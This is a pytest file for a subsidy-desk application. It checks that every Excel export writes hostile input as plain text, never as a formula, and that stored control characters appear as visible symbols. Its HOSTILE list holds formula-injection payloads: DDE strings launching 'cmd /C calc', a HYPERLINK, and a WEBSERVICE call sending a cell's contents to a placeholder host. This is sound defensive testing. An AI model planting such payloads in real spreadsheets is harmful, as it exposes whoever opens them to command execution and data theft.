"""No workbook the program writes holds a formula, whatever text a clerk, a bank's list or the ledger gives it.

Hostile text goes through every writer (batch results, the error list, the template, worksheets, the summary,
the combined printouts, the ledger export); then every cell of every sheet is scanned twice: as openpyxl reads it
(data_type 'f' is a formula, 'e' an error value) and in the raw XML (an <f> element). A stored control character,
which used to break every later export, comes out as its visible symbol. A writer added to the package without
being added here fails ``test_every_workbook_writer_is_scanned``.
"""
from __future__ import annotations

import ast
import json
import re
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from subsidy_desk import sheet_text

from .batch.conftest import LOAN, fill
from .conftest import ROOT

HOSTILE = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://example.invalid","点我")', '=DDE("cmd";"/C calc";"A0")',
           '=WEBSERVICE("http://example.invalid/?"&A1)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
           "#N/A"]
CODES = ["91140900MA0K5YQ12C", "91140900MA0GRT8W60", "92140902MA0H3C7N5X"]
# Where each writer lives, and the test below that runs hostile text through it.
WRITERS = {
    "batch/results.py": "write_results", "batch/importer.py": "export_errors", "batch/template.py": "write_template",
    "batch/printouts.py": "write_combined", "worksheets/xlsx.py": "write_sheet/write_summary",
    "ledger/export.py": "write_workbook",
}


def scan(path: Path) -> list[str]:
    """Every text of every cell of every sheet; fails on a formula or an error value anywhere."""
    texts = []
    wb = load_workbook(path)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type not in ("f", "e"), (path.name, ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                xml = z.read(name).decode("utf-8")
                assert not re.search(r"<f[ >/]", xml), (path.name, name)
    return texts


def assert_shown(texts: list[str], wanted) -> None:
    for text in wanted:
        assert any(text in t for t in texts), text  # the hostile text was really written, as text


TEXT_INPUTS = {"startup_loan": ("bank", "contract_no"), "guarantee_fee": ("agency_name", "contract_no"), "six_taxes": ()}


@pytest.fixture
def hostile_cases(rules):
    """Computed cases of each kind whose every free text (name, contact, bank, agency, contract) is hostile."""
    from subsidy_desk.case import FORMAT, compute, parse_case

    out = []
    for n, kind in enumerate(TEXT_INPUTS):
        data = json.loads((ROOT / "docs" / "cases" / f"{kind}.json").read_text(encoding="utf-8"))
        for i, h in enumerate(HOSTILE):
            applicant = dict(data["applicant"], name=h, credit_code=CODES[n], contact=HOSTILE[i - 1])
            inputs = dict(data["inputs"], **{key: f"{HOSTILE[(i + k + 1) % len(HOSTILE)]}"
                                            for k, key in enumerate(TEXT_INPUTS[kind])})
            case = parse_case({"format": FORMAT, "kind": kind, "applicant": applicant, "inputs": inputs,
                               "claim": {"amount": "1.00"}})  # claimed: the 核对 sheet lists the banks too
            out.append((case, compute(case, rules)))
    return out


def test_every_workbook_writer_is_scanned():
    """A module that saves a workbook is one of WRITERS, each exercised below."""
    package = ROOT / "subsidy_desk"
    saving = set()
    for path in package.rglob("*.py"):
        rel = path.relative_to(package).as_posix()
        if rel.startswith("ui/"):
            continue  # the window calls the same writers
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for node in ast.walk(tree):
            if isinstance(node, ast.Call) and getattr(node.func, "id", getattr(node.func, "attr", "")) in (
                    "Workbook", "load_workbook") and rel not in ("batch/importer.py",) or (
                    isinstance(node, ast.Call) and getattr(node.func, "attr", "") == "save_workbook"):
                saving.add(rel)
    saving.add("batch/importer.py")  # reads lists, and writes the error list back
    assert saving <= set(WRITERS), saving - set(WRITERS)


def test_batch_results_and_printouts_hold_no_formula(tmp_path, hostile_cases):
    from subsidy_desk.batch.printouts import write_combined, write_each
    from subsidy_desk.batch.results import Entry, write_results

    from subsidy_desk.readings import check_claim
    from subsidy_desk.rules.load import load_rules

    rules = load_rules()
    entries = [Entry(i + 2, case, result, (), check_claim(case, rules, result))
               for i, (case, result) in enumerate(hostile_cases)]
    assert all(e.check is not None for e in entries)
    write_results(entries, tmp_path / "结果.xlsx", failed=[(99, HOSTILE[0], HOSTILE[1])])
    assert_shown(scan(tmp_path / "结果.xlsx"), HOSTILE)
    write_combined(entries[:4], tmp_path / "合并.xlsx", office={"name": HOSTILE[2], "clerk": HOSTILE[3]})
    assert_shown(scan(tmp_path / "合并.xlsx"), HOSTILE[:4])
    for path in write_each(entries[:2], tmp_path / "each", office={"name": HOSTILE[4], "clerk": HOSTILE[5]}):
        assert_shown(scan(path), [HOSTILE[4], HOSTILE[5]])


def test_worksheet_and_summary_hold_no_formula(tmp_path, hostile_cases):
    from subsidy_desk.worksheets.xlsx import write_summary, write_workbook

    for n, (case, result) in enumerate(hostile_cases[::5]):
        path = write_workbook(case, result, tmp_path / f"w{n}.xlsx", {"name": HOSTILE[1], "clerk": HOSTILE[0]})
        assert_shown(scan(path), [case.applicant["name"], HOSTILE[1], HOSTILE[0]])
    write_summary(hostile_cases, tmp_path / "汇总.xlsx")
    assert_shown(scan(tmp_path / "汇总.xlsx"), HOSTILE)


def test_template_and_error_list_hold_no_formula(tmp_path):
    from subsidy_desk.batch.importer import export_errors, read_rows
    from subsidy_desk.batch.template import write_template

    for kind in ("startup_loan", "guarantee_fee", "six_taxes"):
        write_template(kind, tmp_path / f"{kind}.xlsx")
        scan(tmp_path / f"{kind}.xlsx")
    listed = fill("startup_loan", [], tmp_path / "名单.xlsx")
    wb = load_workbook(listed)
    ws = wb.worksheets[0]
    headers = [c.value for c in ws[1]]
    for i, h in enumerate(HOSTILE):  # typed as text, as a bank's list holds them
        row = {**LOAN, "序号": i + 1, "申请人名称": h, "借款合同编号": h, "经办银行": h, "联系人及电话": h,
               "贷款本金（元）": h if i % 2 else 3000000, "备注": h}
        for header, value in row.items():
            sheet_text.put(ws.cell(i + 3, headers.index(header) + 1), value)
    wb.save(listed)
    result = read_rows(listed)
    assert any(r.problems for r in result.rows)
    export_errors(result, tmp_path / "错误.xlsx")
    assert_shown(scan(tmp_path / "错误.xlsx"), HOSTILE)


def test_ledger_export_holds_no_formula_and_survives_a_stored_control_character(tmp_path, hostile_cases):
    from subsidy_desk.ledger import Ledger
    from subsidy_desk.ledger.export import write_workbook

    url = f"sqlite:///{tmp_path / 'ledger.sqlite3'}"
    owner = Ledger(url, "wang")
    owner.grant("wang", "审核")
    owner.grant("li", "经办")
    clerk = Ledger(url, "li")
    for case, result in hostile_cases[:len(HOSTILE)]:
        clerk.add(case, result)
    # a name stored before input refused control characters (as an old ledger holds it)
    case, result = hostile_cases[-1]
    case.applicant["name"] = "忻州\x01某\x1f公司"
    clerk.add(case, result)
    owner.send_back(1, HOSTILE[2])
    write_workbook(owner.entries(), tmp_path / "台账.xlsx")
    texts = scan(tmp_path / "台账.xlsx")
    assert_shown(texts, HOSTILE)
    assert "忻州␁某␟公司" in texts
    owner.close()
    clerk.close()


@pytest.mark.parametrize("text,shown", [("a\x01b", "a␁b"), ("\x00", "␀"), ("tab\tand\nline", "tab\tand\nline"),
                                        ("\ud83d", "\ufffd"), ("x" * 40000, "x" * 32767), ("=1+1", "=1+1")])
def test_visible(text, shown):
    assert sheet_text.visible(text) == shown


def test_value_makes_formulas_and_error_codes_text_and_leaves_the_rest_plain():
    from openpyxl import Workbook

    ws = Workbook().active
    assert sheet_text.value(ws, "忻州") == "忻州" and sheet_text.value(ws, 5) == 5
    for text in ("=1+1", "#N/A", "#DIV/0!"):
        cell = sheet_text.value(ws, text)
        assert cell.value == text and cell.data_type == "s"
